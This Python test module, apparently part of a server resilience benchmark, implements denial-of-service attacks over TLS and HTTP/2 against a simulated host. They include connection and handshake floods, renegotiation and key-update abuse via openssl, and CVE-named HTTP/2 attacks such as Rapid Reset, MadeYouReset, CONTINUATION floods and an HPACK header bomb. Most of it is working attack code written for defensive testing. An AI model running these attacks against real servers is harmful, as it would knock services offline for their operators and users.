"""What an attacker does by TLS and HTTP/2, connection by connection; from how many addresses."""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import subprocess
from abc import abstractmethod
from collections.abc import Iterator
from dataclasses import dataclass
from typing import ClassVar, Final

from tests.bench import h2
from tests.bench.tls_line import context, first_words, lines
from tests.siege.attacks import (
    BIG,
    SOMETHING,
    WAIT_S,
    Attack,
    Line,
    LineType,
    SilentTunnels,
    SlowBodies,
    SlowHeads,
    StoppedReaders,
    meanwhile,
)
from tests.simulator.office.box import ADDRESS, HOST

PORT: Final = 443
_AT_ONCE: Final = 500
"""So many frames are sent together."""
_BLOCK: Final = h2.block(HOST, SOMETHING, more=[("user-agent", "Mozilla/5.0"), ("accept", "*/*")])
_BOMB: Final = "x" * 3500
"""Nearly as large as the table of headers, which has 4096 bytes."""


class Idle(Attack):
    """Connections by TLS and HTTP/2 that say hello, then now and then a PING, up to 10,000."""

    name = "idle_tls"
    connections = 10_000
    per_s = 1000

    async def hold(self, line: Line) -> None:
        await line.say(h2.PREFACE + h2.settings())
        async with meanwhile(line.until_hung_up()) as hung_up:
            while not hung_up.done():
                await asyncio.sleep(4)
                await line.say(h2.frame(h2.PING, 0, 0, bytes(8)))


class IdleH1(Attack):
    """The same by HTTP/1.1, where nothing is said after the handshake."""

    name = "idle_tls_h1"
    connections = 10_000
    per_s = 1000

    async def hold(self, line: Line) -> None:
        await line.until_hung_up()


class HalfHandshakes(Attack):
    """4000 connections send the first half of a ClientHello and no more."""

    name = "half_handshakes"
    connections = 4000
    per_s = 1000
    hello: ClassVar[bytes] = first_words(context("h2"))

    async def hold(self, line: Line) -> None:
        await line.say(self.hello[: len(self.hello) // 2])
        await line.until_hung_up()


class HandshakeFlood(Attack):
    """A ClientHello on each of 1000 new connections a second: what it asks for costs a signature.

    It is the same each time, and nothing is done with the answer: the attacker computes nothing.
    """

    name = "handshake_flood"
    connections = 400
    per_s = 1000
    hello: ClassVar[bytes] = first_words(context("h2"))

    async def hold(self, line: Line) -> None:
        await line.say(self.hello)
        if await line.hear():
            line.tally["answered"] += 1


class OpensslAgain(Attack):
    """One that openssl carries out: it asks again and again for other keys."""

    connections = 20
    per_s = 100
    version: ClassVar[str]
    letter: ClassVar[bytes]

    async def hold(self, line: Line) -> None:
        # Not asyncio's: it waits for ever for one that is killed while it is written to.
        with subprocess.Popen(
            [
                *("openssl", "s_client", "-connect", f"{ADDRESS}:{PORT}", self.version),
                *("-servername", HOST, "-bind", f"{line.source}:0"),
            ],
            bufsize=0,
            stdin=subprocess.PIPE,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        ) as program:
            assert program.stdin
            try:
                while program.poll() is None:
                    with contextlib.suppress(BrokenPipeError):
                        program.stdin.write(self.letter + b"\n")
                        line.tally["asked"] += 1
                    await asyncio.sleep(0.005)
            finally:
                program.kill()


class Renegotiation(OpensslAgain):
    """20 connections by TLS 1.2 ask all the time to begin anew."""

    name = "renegotiation"
    version = "-tls1_2"
    letter = b"R"


class KeyUpdates(OpensslAgain):
    """20 connections by TLS 1.3 ask all the time for other keys."""

    name = "key_updates"
    version = "-tls1_3"
    letter = b"K"


class Frames(Attack):
    """Connections by HTTP/2 that send frames as fast as they are taken, and read what comes."""

    connections = 10
    per_s = 100
    settings: ClassVar[dict[int, int]] = {}

    @abstractmethod
    def frames(self) -> Iterator[bytes]:
        """Give what is sent, one piece after the other."""

    async def hold(self, line: Line) -> None:
        await line.say(h2.PREFACE + h2.settings(self.settings) + h2.frame(h2.SETTINGS, h2.ACK, 0))
        async with meanwhile(_forget(line)) as hung_up:
            for piece in self.frames():
                if hung_up.done():
                    break
                await line.say(piece)
                line.tally["pieces"] += 1
                await asyncio.sleep(0)
            await hung_up


async def _forget(line: Line) -> None:
    while await line.hear():
        pass


def _streams() -> Iterator[int]:
    return iter(range(1, h2.MOST_STREAM, 2))


class RapidReset(Frames):
    """Requests that are taken back at once (CVE-2023-44487)."""

    name = "rapid_reset"

    def frames(self) -> Iterator[bytes]:
        streams = _streams()
        while some := list(itertools.islice(streams, _AT_ONCE)):
            yield b"".join(
                h2.get(n, _BLOCK) + h2.frame(h2.RST_STREAM, 0, n, h2.CANCEL) for n in some
            )


class MadeYouReset(Frames):
    """Requests that the other side must take back, for what follows is wrong (CVE-2025-8671)."""

    name = "made_you_reset"

    def frames(self) -> Iterator[bytes]:
        streams = _streams()
        while some := list(itertools.islice(streams, _AT_ONCE)):
            yield b"".join(h2.get(n, _BLOCK) + h2.window(n, 0) for n in some)


class Continuations(Frames):
    """A head that never ends, in CONTINUATION frames (CVE-2024-27316)."""

    name = "continuations"

    def frames(self) -> Iterator[bytes]:
        yield h2.frame(h2.HEADERS, 0, 1, _BLOCK)
        more = h2.frame(h2.CONTINUATION, 0, 1, h2.literal("x-more", "x" * 1000))
        empty = h2.frame(h2.CONTINUATION, 0, 1)
        while True:
            yield (more + empty * 20) * 20


class SettingsFlood(Frames):
    """SETTINGS frames, each of which wants an answer (CVE-2019-9515)."""

    name = "settings_flood"

    def frames(self) -> Iterator[bytes]:
        return itertools.repeat(h2.settings({h2.INITIAL_WINDOW_SIZE: 1000}) * _AT_ONCE)


class PingFlood(Frames):
    """PING frames, each of which wants an answer (CVE-2019-9512)."""

    name = "ping_flood"

    def frames(self) -> Iterator[bytes]:
        return itertools.repeat(h2.frame(h2.PING, 0, 0, bytes(8)) * _AT_ONCE)


class EmptyFrames(Frames):
    """DATA frames without any, PRIORITY frames, windows a byte larger (CVE-2019-9518, -9513)."""

    name = "empty_frames"

    def frames(self) -> Iterator[bytes]:
        yield h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.block(HOST, "/app/echo", method="POST"))
        each = (
            h2.frame(h2.DATA, 0, 1) + h2.frame(h2.PRIORITY, 0, 3, b"\0\0\0\0\x10") + h2.window(0, 1)
        )
        while True:
            yield each * _AT_ONCE


class HeaderBomb(Frames):
    """Heads of a few bytes that are megabytes when they are written out (CVE-2016-6581)."""

    name = "header_bomb"

    def frames(self) -> Iterator[bytes]:
        streams = _streams()
        first = _BLOCK + h2.literal("x-bomb", _BOMB, index=True)
        yield h2.get(next(streams), first)
        bomb = _BLOCK + h2.indexed(62) * 12_000
        for n in streams:
            yield h2.get(n, bomb)


class LargeHeads(Frames):
    """Heads of as many bytes as a frame may have, on 100 streams at once."""

    name = "large_heads"

    def frames(self) -> Iterator[bytes]:
        large = _BLOCK + b"".join(h2.literal(f"x-{n}", "x" * 1000) for n in range(15))
        for n in _streams():
            yield h2.get(n, large)


class SlowHeadsH2(Attack):
    """300 connections send a head in CONTINUATION frames of a byte, one each half second."""

    name = "slow_heads_h2"
    connections = 300
    per_s = 100

    async def hold(self, line: Line) -> None:
        await line.say(h2.PREFACE + h2.settings() + h2.frame(h2.HEADERS, 0, 1, _BLOCK[:1]))
        async with meanwhile(_forget(line)) as hung_up:
            for byte in itertools.cycle(_BLOCK):
                if hung_up.done():
                    break
                await line.say(h2.frame(h2.CONTINUATION, 0, 1, bytes([byte])))
                await asyncio.sleep(0.5)


class SlowBodiesH2(Attack):
    """100 forms on each of 20 connections, a byte a second of each."""

    name = "slow_bodies_h2"
    connections = 20
    per_s = 100

    async def hold(self, line: Line) -> None:
        head = h2.block(HOST, "/app/echo", method="POST", more=[("content-length", "100000")])
        streams = list(itertools.islice(_streams(), 100))
        opened = b"".join(h2.frame(h2.HEADERS, h2.END_HEADERS, n, head) for n in streams)
        await line.say(h2.PREFACE + h2.settings() + opened)
        async with meanwhile(_forget(line)) as hung_up:
            while not hung_up.done():
                await line.say(b"".join(h2.frame(h2.DATA, 0, n, b".") for n in streams))
                await asyncio.sleep(1)


class StoppedReadersH2(Attack):
    """A file of 3 MB on each of 100 streams of 20 connections, whose windows stay shut."""

    name = "stopped_readers_h2"
    connections = 20
    per_s = 100

    async def hold(self, line: Line) -> None:
        streams = itertools.islice(_streams(), 100)
        asked = b"".join(h2.get(n, h2.block(HOST, BIG)) for n in streams)
        await line.say(h2.PREFACE + h2.settings({h2.INITIAL_WINDOW_SIZE: 1}) + asked)
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(WAIT_S):
                await _forget(line)


@dataclass(frozen=True, slots=True)
class Way:
    """How an attack is carried out."""

    attack: type[Attack]
    alpn: str = "h2"
    """Empty: the attack does itself what is done of TLS."""
    addresses: tuple[int, ...] = (40,)
    """It is carried out from so many, one after the other."""

    def line(self) -> LineType:
        """Return what makes a line of each connection."""
        return lines(context(self.alpn)) if self.alpn else Line


_H1: Final = "http/1.1"
WAYS: Final = {
    way.attack.name: way
    for way in (
        *(Way(each, _H1) for each in (SlowHeads, SlowBodies, StoppedReaders, SilentTunnels)),
        *(Way(each) for each in (SlowHeadsH2, SlowBodiesH2, StoppedReadersH2)),
        *(Way(each) for each in (RapidReset, MadeYouReset, Continuations, SettingsFlood)),
        *(Way(each) for each in (PingFlood, EmptyFrames, HeaderBomb, LargeHeads)),
        Way(Idle, "h2", (1, 40, 1000)),
        Way(IdleH1, _H1, (1, 40, 1000)),
        Way(HalfHandshakes, "", (1, 40, 1000)),
        Way(HandshakeFlood, "", (1, 40, 1000)),
        Way(Renegotiation, ""),
        Way(KeyUpdates, ""),
    )
}


def sources(addresses: int) -> Iterator[str]:
    """Give the address of each connection in turn: of 1000, two and two are of one /24."""
    return itertools.cycle(
        f"198.{19 - n // 500}.{n % 500 // 2}.{n % 2 + 100}" for n in range(addresses)
    )
